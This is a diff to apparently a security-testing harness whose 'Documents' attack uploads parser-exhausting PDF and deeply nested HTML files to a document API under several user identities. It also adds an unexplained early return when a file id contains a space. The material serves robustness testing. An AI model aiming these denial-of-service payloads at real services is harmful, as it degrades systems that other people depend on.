@@ -60,8 +60,8 @@ def endless_pdf(number):
 
 
 def quadratic_html(number):
-    """Returns a page whose unclosed elements a parser opens again in each paragraph."""
-    return b"<!doctype html><title>%d</title>" % number + b"".join(b"<b a=%d>" % i for i in range(8_000)) + b"<p>x" * 8_000
+    """Returns a page of 500 kB whose elements a parser closes in quadratic time."""
+    return b"<!--%d-->" % number + b"<div>" * 100_000 + b"hello"
 
 
 def with_file(file):
@@ -96,7 +96,7 @@ class Documents(Attack):
             raise RuntimeError(status)
 
     def strike(self, server, until):
-        secrets = [server.json("POST", "/v1/users/anonymous")["token"] for _ in range(4)]
+        secrets = [server.json("POST", "/v1/users/anonymous")["token"] for _ in range(2)]
         callers = [{"user": MALLORY}, {"user": "trudy"}] + [{"authorization": "Bearer " + secret} for secret in secrets]
         collections = [server.json("POST", "/v1/collections", {"name": "c"}, **caller)["id"] for caller in callers]
 
@@ -104,6 +104,9 @@ class Documents(Attack):
             caller, number = callers[i % len(callers)], next(self.numbers)
             kind = [("a.pdf", "application/pdf", endless_pdf), ("a.html", "text/html", quadratic_html)][number % 2]
             file = server.upload(kind[0], kind[1], kind[2](number * 100 + i), **caller)
+            if " " in file:
+                time.sleep(0.5)
+                return file.split(" ")
             if i % 2:
                 path = f"/v1/collections/{collections[i % len(callers)]}/documents"
                 answer = server.ask("POST", path, {"file_id": file}, **caller)
